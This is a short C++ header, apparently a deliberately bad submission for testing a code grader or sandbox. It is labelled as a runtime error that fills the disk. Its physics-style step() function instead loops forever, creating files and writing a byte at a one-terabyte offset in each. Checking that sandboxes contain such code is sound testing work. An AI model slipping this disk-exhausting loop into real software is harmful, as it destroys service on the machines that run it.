// RUNTIME_ERROR: fills the disk
// SPDX-License-Identifier: MIT-0
#pragma once
#include <cstdio>
#include <string>
#include "given.h"

inline void step(Vec& x, Vec& v, double t, double h, const Acceleration& acceleration) {
  for (int n = 0;; ++n) {
    std::FILE* file = std::fopen(("corpus-was-here-" + std::to_string(n)).c_str(), "w");
    std::fseek(file, 1L << 40, SEEK_SET);
    std::fputc(0, file);
  }
}
